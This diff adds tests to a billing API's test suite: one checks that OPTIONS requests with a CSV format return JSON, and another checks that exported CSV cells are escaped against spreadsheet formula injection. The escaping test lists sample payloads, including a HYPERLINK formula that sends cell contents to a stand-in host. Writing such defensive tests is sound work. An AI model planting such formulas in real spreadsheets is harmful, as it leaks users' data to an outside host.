@@ -62,3 +62,35 @@ def test_reader_roles_cannot_export(api, make_user, charges):
     assert clerk.get("/api/v1/billing/charges/").status_code == 200
     assert clerk.post("/api/v1/billing/charges/export/").status_code == 403
     assert BillCharge.objects.filter(exported_at__isnull=True).count() == 2
+
+
+@pytest.mark.parametrize(
+    "path", ["/api/v1/billing/charges/export/", "/api/v1/billing/adjustments/export/"]
+)
+def test_options_with_the_csv_format_describes_the_endpoint_in_json(make_user, path):
+    """OPTIONS ...?format=csv answered 500: the CSV renderer was handed a dict."""
+    from rest_framework.test import APIClient
+
+    client = APIClient()  # OPTIONS is not an operation of the schema
+    client.force_authenticate(make_user(Role.BILLING_OFFICER))
+    response = client.options(path, QUERY_STRING="format=csv")
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("application/json")
+    assert response.json()["name"]
+
+
+def test_text_that_would_be_a_formula_is_exported_as_text(billing, charges):
+    """A spreadsheet program runs a cell starting with = + - @ as a formula."""
+    from apps.meter_service import exports
+
+    attacks = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-1+1", "@SUM(A1)", "\t=1"]
+    assert [exports.spreadsheet_text(a) for a in attacks] == ["'" + a for a in attacks]
+    assert [exports.spreadsheet_text(v) for v in ("-250", "+98", 7, "نام")] == [
+        "-250",
+        "+98",
+        7,
+        "نام",
+    ]
+    text = exports.csv_text(["name", "amount"], [{"name": attacks[0], "amount": -250}])
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert rows == [{"name": "'" + attacks[0], "amount": "-250"}]
